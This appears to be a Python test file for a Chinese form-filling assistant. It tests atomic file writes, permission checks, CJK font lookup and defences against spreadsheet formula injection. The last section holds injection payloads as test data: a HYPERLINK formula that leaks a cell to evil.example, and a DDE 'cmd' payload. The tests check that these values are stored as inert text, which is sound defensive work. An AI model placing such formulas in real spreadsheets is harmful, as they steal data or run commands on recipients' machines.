"""Atomic writes and the CJK font lookup."""

import os
from pathlib import Path

import pytest

from assistant.errors import FormError
from assistant.forms import fonts
from assistant.forms.output import check_writable, write_atomic
from forms_readback import name_only_profile  # noqa: F401 (pytest fixtures)


def test_write_atomic_replaces_whole_file(tmp_path):
    target = tmp_path / "a.docx"
    target.write_bytes(b"old")
    write_atomic(target, lambda tmp: tmp.write_bytes(b"new"))
    assert target.read_bytes() == b"new"
    assert [p.name for p in tmp_path.iterdir()] == ["a.docx"]      # no temp file left behind
    mode = target.stat().st_mode & 0o777
    assert mode & 0o044, "readable like any document, not 0600"


def test_failed_render_leaves_old_file_and_no_temp(tmp_path):
    target = tmp_path / "a.pdf"
    target.write_bytes(b"old")

    def broken(tmp: Path):
        tmp.write_bytes(b"half")
        raise RuntimeError("render failed")

    with pytest.raises(RuntimeError):
        write_atomic(target, broken)
    assert target.read_bytes() == b"old"
    assert [p.name for p in tmp_path.iterdir()] == ["a.pdf"]


def test_unwritable_folder_is_refused(tmp_path, monkeypatch):
    # the tests may run as root, for whom chmod does not stop writes: simulate the check's answer
    real = os.access
    monkeypatch.setattr(os, "access", lambda p, mode: False if Path(p) == tmp_path else real(p, mode))
    with pytest.raises(FormError, match="没有写入权限"):
        check_writable(tmp_path / "a.xlsx")


def test_read_only_file_is_refused(tmp_path, monkeypatch):
    target = tmp_path / "a.xlsx"
    target.write_bytes(b"x")
    real = os.access
    monkeypatch.setattr(os, "access", lambda p, mode: False if Path(p) == target else real(p, mode))
    with pytest.raises(FormError, match="文件只读"):
        check_writable(target)


def test_default_font_is_an_embeddable_cjk_font():
    path = fonts.find_cjk_font()
    assert path.suffix in (".ttf", ".ttc") and path.is_file()
    from fontTools.ttLib import TTCollection, TTFont

    font = TTCollection(str(path)).fonts[0] if path.suffix == ".ttc" else TTFont(str(path))
    cmap = font.getBestCmap()
    assert all(ord(ch) in cmap for ch in "小微企业园入园申请表统一社会信用代码（）：＿")


def test_font_env_override(tmp_path, monkeypatch):
    monkeypatch.setenv(fonts.ENV_VAR, str(tmp_path / "missing.ttf"))
    with pytest.raises(FormError) as info:
        fonts.find_cjk_font()
    assert "fonts-wqy-microhei" in info.value.message and "paperang-p2-fonts-cjk" in info.value.message
    otf = tmp_path / "NotoSansCJK.otf"
    otf.write_bytes(b"x")
    monkeypatch.setenv(fonts.ENV_VAR, str(otf))
    with pytest.raises(FormError, match=r"\.otf 无法正确嵌入"):
        fonts.find_cjk_font()


def test_missing_font_stops_pdf_but_not_docx(tmp_path, monkeypatch, name_only_profile):
    from assistant.forms.entry_application import write_entry_application

    monkeypatch.setenv(fonts.ENV_VAR, str(tmp_path / "none.ttc"))
    with pytest.raises(FormError, match="找不到可嵌入 PDF 的中文字体"):
        write_entry_application(name_only_profile, tmp_path / "a.pdf")
    assert not (tmp_path / "a.pdf").exists()
    assert write_entry_application(name_only_profile, tmp_path / "a.docx").exists()


def test_system_font_is_the_fallback(tmp_path, monkeypatch, name_only_profile):
    # Without the pip font package, Debian's fonts-wqy-microhei path is used.
    from assistant.forms.entry_application import write_entry_application

    packaged = fonts.find_cjk_font()
    system = tmp_path / "wqy-microhei.ttc"
    system.symlink_to(packaged)
    monkeypatch.delenv(fonts.ENV_VAR, raising=False)
    monkeypatch.setattr(fonts, "_packaged_font", lambda: None)
    monkeypatch.setattr(fonts, "SYSTEM_CANDIDATES", (str(tmp_path / "absent.ttc"), str(system)))
    assert fonts.find_cjk_font() == system
    assert write_entry_application(name_only_profile, tmp_path / "a.pdf").stat().st_size > 10_000
    monkeypatch.setattr(fonts, "SYSTEM_CANDIDATES", (str(tmp_path / "absent.ttc"),))
    with pytest.raises(FormError, match="absent.ttc"):
        fonts.find_cjk_font()


# ------------------------------------------------- formula injection: values are text, never formulas

INJECTIONS = ['=HYPERLINK("http://evil.example/?d="&A1,"点击领取补贴")', "+1+cmd|' /C calc'!A0", "-2+3",
              "@SUM(1,2)", "\t=1+1", "\r=1+1"]


def _cells(path):
    from openpyxl import load_workbook

    ws = load_workbook(path).active
    return [c for row in ws.iter_rows() for c in row if isinstance(c.value, str)]


def test_staff_table_cells_starting_with_formula_characters_are_text(tmp_path):
    from assistant.forms.staff_tables import write_staff_table

    rows = [{"市、县（市、区）": "温州市", "机构名称": v, "联系人": v} for v in INJECTIONS]
    out = tmp_path / "附件1.xlsx"
    write_staff_table("1", rows, out)
    cells = [c for c in _cells(out) if c.value in INJECTIONS or c.value.lstrip("\t\r") in INJECTIONS]
    assert {c.value for c in cells} >= set(INJECTIONS) - {"\t=1+1", "\r=1+1"}
    for c in cells:
        assert c.data_type == "s" and c.quotePrefix, (c.coordinate, c.value, c.data_type)


def test_park_report_cells_starting_with_formula_characters_are_text(tmp_path):
    from assistant.forms.park_report import write_park_report
    from assistant.verdicts import CheckItem, CheckReport, Verdict

    items = [CheckItem(rule_id=f"r{i}", criterion=v, verdict=Verdict.warning, message=v, threshold=v)
             for i, v in enumerate(INJECTIONS)]
    report = CheckReport(subject='=HYPERLINK("http://evil.example","园区")', jurisdiction="温州市",
                         overall=Verdict.warning, items=items)
    out = write_park_report(report, tmp_path / "r.xlsx")
    risky = [c for c in _cells(out) if c.value.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert len(risky) >= 3 * 4 + 1
    for c in risky:
        assert c.data_type == "s" and c.quotePrefix, (c.coordinate, c.value, c.data_type)
    assert any(c.value == report.subject for c in risky)  # shown exactly as typed


def test_defuse_counts_and_keeps_numbers():
    from openpyxl import Workbook

    from assistant.forms.output import defuse_formulas

    wb = Workbook()
    ws = wb.active
    ws["A1"], ws["A2"], ws["A3"] = "=1+1", -5, "正常文字"
    assert defuse_formulas(wb) == 1
    assert ws["A1"].data_type == "s" and ws["A2"].value == -5 and ws["A2"].data_type == "n"
